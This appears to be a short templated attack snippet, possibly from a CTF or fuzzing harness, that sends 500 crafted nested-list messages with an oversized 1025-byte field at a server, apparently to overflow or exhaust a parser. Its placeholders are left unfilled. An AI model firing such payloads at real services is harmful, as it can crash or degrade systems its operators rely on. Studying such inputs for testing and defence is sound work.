#{weigh_wrong}
# <attack>
#{forge}
greet()
for _ in range(500):
    send(b'["v",["s",["i","' + b'f' * 1025 + b'"]]]')
wait()
# </attack>
